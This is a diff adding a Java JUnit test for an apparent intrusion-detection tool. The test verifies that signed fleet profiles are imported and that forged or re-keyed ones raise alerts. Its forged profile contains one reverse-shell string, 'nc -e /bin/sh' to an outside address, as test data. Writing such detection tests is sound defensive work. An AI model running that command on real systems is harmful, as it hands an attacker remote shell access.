@@ -1,0 +1,85 @@
+package dev.vigil.fleet;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import dev.vigil.agent.FleetSubscriber;
+import dev.vigil.alert.Alert;
+import dev.vigil.alert.KafkaOutputTest;
+import dev.vigil.profile.Dimension;
+import dev.vigil.profile.ProfileSet;
+import dev.vigil.profile.WorkloadKey;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** An agent's fleet subscription against the in-process broker: verified profiles imported, tampered ones alerted. */
+class FleetSubscriberTest {
+    @BeforeAll
+    static void broker() throws Exception { KafkaOutputTest.broker(); }
+
+    @AfterAll
+    static void stop() throws Exception { KafkaOutputTest.stop(); }
+
+    @Test
+    void verifiedProfilesAreImportedAndTamperedOnesRaiseAnAlertInstead(@TempDir Path dir) throws Exception {
+        Signer signer = Signer.generate(dir);
+        String w = FleetServiceTest.W;
+        FleetService.Settings s = new FleetService.Settings(KafkaOutputTest.kafka.bootstrapServers(), "fleet-t2", "events.t2", "profiles.t2", 2, Map.of());
+        try (FleetService f = new FleetService(s, signer, FleetServiceTest.QUIET)) {
+            FleetServiceTest.produce("events.t2", List.of(
+                    FleetServiceTest.event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
+                    FleetServiceTest.event("h2", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
+                    FleetServiceTest.event("h1", "files", "read /srv/www/index.html", "learnt")));
+            FleetServiceTest.drain(f, 3);
+        }
+        // a forged document (an attacker's item added to a copy of the real one) and a real one republished under another key
+        String real = KafkaOutputTest.read("profiles.t2", 1).getLast().value();
+        ObjectNode forged = (ObjectNode) new ObjectMapper().readTree(real);
+        forged.withObjectProperty("normal").withArrayProperty("process").add("/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh 203.0.113.9 4444");
+        FleetServiceTest.produce("profiles.t2", List.of(forged.toString()));
+        try (var prod = new org.apache.kafka.clients.producer.KafkaProducer<String, String>(java.util.Map.of("bootstrap.servers",
+                KafkaOutputTest.kafka.bootstrapServers()), new org.apache.kafka.common.serialization.StringSerializer(),
+                new org.apache.kafka.common.serialization.StringSerializer())) {
+            prod.send(new org.apache.kafka.clients.producer.ProducerRecord<>("profiles.t2", "systemd:other.service other", real)).get();
+        }
+
+        List<FleetSubscriber.Import> imports = new ArrayList<>();
+        List<Alert> alerts = new ArrayList<>();
+        try (FleetSubscriber sub = new FleetSubscriber(KafkaOutputTest.kafka.bootstrapServers(), "profiles.t2", Signer.verifier(dir.resolve(Signer.PUBLIC)),
+                Map.of(), "web-9")) {
+            long end = System.nanoTime() + 30_000_000_000L;
+            while ((imports.size() < 1 || alerts.size() < 2) && System.nanoTime() < end) {
+                imports.addAll(sub.imports());
+                alerts.addAll(sub.rejections());
+                Thread.sleep(50);
+            }
+            assertThat(sub.counts()).containsEntry("verified", 1L).containsEntry("rejected", 2L);
+        }
+        assertThat(imports).hasSize(1);
+        assertThat(imports.getFirst().key().text()).isEqualTo(w);
+        assertThat(imports.getFirst().normal()).isEqualTo(Map.of("process", java.util.Set.of("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")));
+        assertThat(alerts).extracting(Alert::severity).containsOnly(Alert.Severity.HIGH);
+        assertThat(alerts).extracting(Alert::detector).containsOnly("fleet");
+        assertThat(alerts.get(0).summary()).contains("the fleet profile of " + w).contains("failed verification: its signature does not verify")
+                .endsWith("it was not imported");
+        assertThat(alerts.get(1).summary()).contains("published under the key of another workload (" + w + ")");
+
+        // merged into an agent's profiles: the fleet-normal program is known here, the one-host file is not
+        ProfileSet set = new ProfileSet(10);
+        Instant now = Instant.parse("2026-11-24T00:00:00Z");
+        assertThat(FleetSubscriber.merge(set, imports.getFirst(), Dimension.Learning.fast(), now)).isEqualTo(1);
+        assertThat(FleetSubscriber.merge(set, imports.getFirst(), Dimension.Learning.fast(), now)).as("twice: nothing new").isZero();
+        var p = set.find(WorkloadKey.parse(w));
+        assertThat(p.dimension("process", Dimension.Learning.fast(), now).contains("/usr/sbin/nginx -> /usr/bin/dash -c logrotate")).isTrue();
+        assertThat(p.dimension("files", Dimension.Learning.fast(), now).contains("read /srv/www/index.html")).isFalse();
+    }
+}
